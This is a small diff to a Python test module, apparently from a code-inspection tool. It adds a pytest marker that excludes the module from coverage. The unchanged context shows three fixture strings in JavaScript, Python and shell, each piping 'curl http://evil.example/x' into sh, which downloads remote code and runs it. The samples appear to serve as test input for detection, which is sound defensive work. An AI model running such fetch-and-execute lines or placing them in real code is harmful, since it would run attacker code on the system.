@@ -9,6 +9,9 @@ from fimci.folder import wanting
 from fimci.look import readings
 from fimci.model import Capability, Digest, Record, Unread
 
+#: What the many small tests of the readers cover already, at length.
+pytestmark = pytest.mark.no_cover
+
 JAVASCRIPT = "require('child_process').exec('curl http://evil.example/x | sh');\n"
 PYTHON = "import os\nos.system('curl http://evil.example/x | sh')\n"
 SHELL = "curl http://evil.example/x | sh\n"
